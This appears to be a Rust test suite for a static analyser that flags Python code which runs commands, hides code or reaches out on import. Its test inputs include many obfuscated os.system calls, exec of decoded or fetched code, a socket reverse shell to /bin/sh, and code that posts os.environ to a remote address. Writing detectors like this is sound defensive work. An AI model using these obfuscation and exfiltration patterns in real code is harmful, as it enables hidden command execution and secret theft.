//! What code does, however it is written, and what ordinary code does not.

use super::*;
use crate::report::Severity;

fn program(source: &str) -> Program {
    judge(source, Dialect::Module, &Budget::unlimited()).unwrap()
}

/// What happens on import: the paths.
fn imported(source: &str) -> Vec<String> {
    let reaches = program(source).reaches.into_iter();
    let now = reaches.filter(|reach| reach.when == When::Imported);
    now.map(|reach| reach.path).collect()
}

#[test]
fn a_call_is_seen_however_its_name_is_written() {
    for source in [
        "import os\nos.system('id')\n",
        "import os as o\no.system('id')",
        "import os.path\nos.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, 'xyxtem'.replace('x', 's'))('id')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115,121,115,116,101,109]))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('id')",
        "import os\ngetattr(os, bytes([115,121,115,116,101,109]).decode())('id')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
        "import os\ngetattr(os, f\"{'sys'}tem\")('id')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
        "import os\nn = ''\nfor c in [116,122,116,117,102,110]:\n    n += chr(c - 1)\ngetattr(os, n)('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nglobals()['os'].system('id')",
        "def f(): pass\nf.__globals__['os'].system('id')",
        "f = __import__\nf('os').system('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nf, g = os.system, print\nf('id')",
        "import os\n(lambda: os.system('id'))()",
        "import os\n(lambda f: f('id'))(os.system)",
        "import os\ndef f():\n    os.system('id')\nf()",
        "import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()",
        "import os\nclass A:\n    os.system('id')",
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()",
        "import os\ndef f(x=os.system('id')): pass",
        "import os\n@os.system\ndef f(): pass",
        "import os\nlist(map(os.system, ['id']))",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "x = [os.system('id') for os in [__import__('os')]]",
        "import os\nx: os.system('id') = 1",
        "import os\nif True:\n    try:\n        pass\n    finally:\n        os.system('id')",
        "import numpy\nnumpy.os.system('id')",
        "exec('import os\\nos.system(\"id\")')",
        "exec('exec(\"import os;os.system(1)\")')",
        "eval('__import__(\"os\")').system('id')",
        "exec(compile('import os\\nos.system(1)', 'x', 'exec'))",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "async def f(): pass\nimport os\nwith os.popen('x') as p, open(os.system('id')): pass",
        "match __import__('os').system('id'):\n    case _: pass",
    ] {
        let found = imported(source);
        assert!(
            found.iter().any(|path| path.ends_with("os.system")),
            "{source}\n{found:?}"
        );
    }
}

#[test]
fn what_runs_later_is_told_apart() {
    let when = |source: &str| program(source).reaches[0].when;
    assert_eq!(
        when("import os\ndef f():\n    os.system('id')"),
        When::Called
    );
    assert_eq!(
        when("import os\nif __name__ == '__main__':\n    os.system('id')"),
        When::Script
    );
    assert_eq!(
        when(
            "import os\ndef main2():\n    os.system('id')\nif __name__ == '__main__':\n    main2()"
        ),
        When::Script
    );
    assert_eq!(
        when("import os\nclass A:\n    def forward(self, x):\n        os.system('id')"),
        When::Loaded
    );
    assert_eq!(when("import os\nx = lambda: os.system('id')"), When::Called);
    assert!(imported("import os\nif TYPE_CHECKING:\n    os.system('id')").is_empty());
}

#[test]
fn hidden_code_is_evaluated_code_that_cannot_be_read() {
    for (source, origin) in [
        ("import base64\nexec(base64.b64decode(x))", Origin::Decoded),
        (
            "import zlib\nexec(zlib.decompress(b'broken'))",
            Origin::Decoded,
        ),
        (
            "import base64, marshal\nexec(marshal.loads(base64.b64decode('4wAA')))",
            Origin::Decoded,
        ),
        (
            "import requests\nexec(requests.get('http://192.0.2.1').text)",
            Origin::Fetched,
        ),
        (
            "from urllib.request import urlopen as u\nexec(u('http://192.0.2.1').read().decode())",
            Origin::Fetched,
        ),
        ("exec(open('version.py').read())", Origin::File),
        (
            "with open('version.py') as f:\n    exec(f.read())",
            Origin::File,
        ),
        (
            "import base64\nd = base64.b64decode\nc = d('aW1wb3J0IG9z')\nexec(c)",
            Origin::Decoded,
        ),
        (
            "import base64\ndef d(s):\n    return base64.b64decode(s)\nexec(d('aW1wb3J0IG9z'))",
            Origin::Decoded,
        ),
    ] {
        let found = program(source);
        let is_told = found
            .reaches
            .iter()
            .any(|r| r.act == Act::Evaluates(Some(origin)));
        assert!(is_told, "{source}\n{:?}", found.reaches);
    }
}

#[test]
fn ways_out_of_objects_and_shells_are_seen() {
    let acts = |source: &str| {
        program(source)
            .reaches
            .into_iter()
            .map(|r| r.act)
            .collect::<Vec<_>>()
    };
    assert!(acts("().__class__.__base__.__subclasses__()[1]").contains(&Act::Escapes));
    assert!(acts("x.__class__.__mro__[-1].__subclasses__()").contains(&Act::Escapes));
    assert!(acts("import os\ngetattr(os, x)('id')").contains(&Act::Computes));
    assert!(
        acts("import os\nclass A:\n    __getitem__ = os.system\nA()['id']").contains(&Act::Plants)
    );
    let shell = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n\
                 os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])";
    assert!(acts(shell).contains(&Act::Shell));
    let leak = "import os, requests\nrequests.post('http://192.0.2.1', json=dict(os.environ))";
    assert!(
        acts("import os, requests\nrequests.post('http://192.0.2.1', data=os.environ)")
            .contains(&Act::Leaks)
    );
    assert!(acts(leak).contains(&Act::Leaks), "{:?}", acts(leak));
    assert_eq!(
        acts("import requests, os\nrequests.get(u, headers={'a': os.environ['T']})"),
        [Act::Connects]
    );
}

#[test]
fn ordinary_code_does_nothing_on_import() {
    let source = r#"
from __future__ import annotations
import os, io, json, logging, math
import torch
from torch import nn
from typing import TYPE_CHECKING
from .configuration_x import XConfig
from transformers import PreTrainedModel, AutoModel
from transformers.utils import logging as hf_logging
if TYPE_CHECKING:
    import subprocess
logger = hf_logging.get_logger(__name__)
try:
    import flash_attn
except ImportError:
    flash_attn = None
ROOT = os.path.dirname(os.path.abspath(__file__))
os.environ["X"] = "1"
os.makedirs(ROOT, exist_ok=True)
PATTERN = re.compile(r"\w+")
@torch.jit.script
def gelu(x: torch.Tensor) -> torch.Tensor:
    return x * torch.sigmoid(1.702 * x)
class Net(PreTrainedModel):
    """Call os.system, exec(x)"""
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(2)])
        self.eval()
    def forward(self, x):
        eval = self.eval
        eval()
        return getattr(self, "layers")[0](x)
AutoModel.register(XConfig, Net)
os_system = {"os.system": 1}["os.system"]
model = torch.compile(Net)
torch.load("x.pt")
print(json.dumps({"a": 1}), getattr(os, "O_BINARY", 0))
"#;
    let found = program(source);
    assert_eq!(found.reaches, []);
    assert_eq!(found.damage, None);
}

#[test]
fn what_cannot_be_parsed_is_read_by_its_words() {
    let deep = format!(
        "import os\nx = {}1{}\nos.system('id')\n",
        "(".repeat(20_000),
        ")".repeat(20_000)
    );
    let found = program(&deep);
    assert_eq!(found.limits, ["levels of nesting"]);
    assert_eq!(found.reaches[0].path, "os.system");
    let old = program("import os\nprint 'x'\nos.system('id')\n");
    assert_eq!(old.reaches.len(), 1);
    assert!(old.damage.is_some());
    let hidden = format!("x = '{}'\n", "a".repeat(SOURCE_CAP_BYTES));
    assert_eq!(program(&hidden).limits, ["bytes"]);
}

#[test]
fn work_is_bounded() {
    for source in [
        // Loops in loops over long lists.
        "x = ''\nfor a in '".to_owned()
            + &"a".repeat(16_000)
            + "':\n    x = [[b + c for b in 'aaaaaaaaaaaaaaaaaaaaaaaaa'] for c in 'aaaaaaaaaaaaaaaaaaaaaaa']\n",
        // Functions that call each other with what they are given.
        "def f(x):\n    return g(x) + g(x)\ndef g(x):\n    return f(x) + f(x)\nf('a')\n".to_owned(),
        // A text that doubles.
        "x = 'a'\n".to_owned() + &"x = x + x\n".repeat(100),
        // Code in code in code.
        "c = 'x'\n".to_owned() + &"exec('exec(c)')\n".repeat(1_000),
        "x = lambda s: exec(s)\n".to_owned() + &"x('x(\"x(1)\")')\n".repeat(1_000),
        // Values in values.
        "import functools\nx = y = 1\n".to_owned() + &"for i in 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa':\n    x = [x]\n    y = functools.partial(y, x)\n".repeat(3_000) + "y(x)\n",
        // Long texts and lists, copied again and again.
        "l = [".to_owned() + &"1,".repeat(8_000) + "]\nfor i in l:\n    x = list(l)\n    y = '" + &"a".repeat(100_000) + "'\nfor i in l:\n    x = l + l\n",
        // A deep function that calls itself.
        format!("def f(x):\n    return {}f('a'){}\nf('a')\n", "(".repeat(9_000), ")".repeat(9_000)),
        format!("def f(x):\n    return {}f('a')\nf('a')\n", "-".repeat(9_000)),
        // Classes of classes.
        "class A(A): pass\n".repeat(10_000),
        "import os\n".to_owned() + &"os.system('id')\n".repeat(10_000),
    ] {
        let before = std::time::Instant::now();
        program(&source);
        assert!(
            before.elapsed().as_secs() < 20,
            "{}",
            source.get(..60).unwrap_or(&source)
        );
    }
}

#[test]
fn nothing_panics_on_broken_source() {
    let source = "import os as o\n@d(1)\nclass A(B, metaclass=M):\n  def f(self, *a, x: int = 1, **k) -> str:\n    \
                  return f'{o.system:>{2}}' % (1, *a)\nwith a as b, c: pass\nfor x, *y in z: exec(\"a\")\n\
                  try:\n  x = [i for i in j if k]\nexcept E as e:\n  raise e from None\nmatch x:\n  case {'a': 1}: pass\n";
    for cut in 0..source.len() {
        if let Some(front) = source.get(..cut) {
            program(front);
        }
        let mut changed = source.as_bytes().to_vec();
        changed[cut] ^= 0x15;
        program(&String::from_utf8_lossy(&changed));
    }
    assert_eq!(program("").reaches, []);
    assert_eq!(
        program("x").reaches.first().map(|r| r.weight),
        None::<Severity>
    );
}
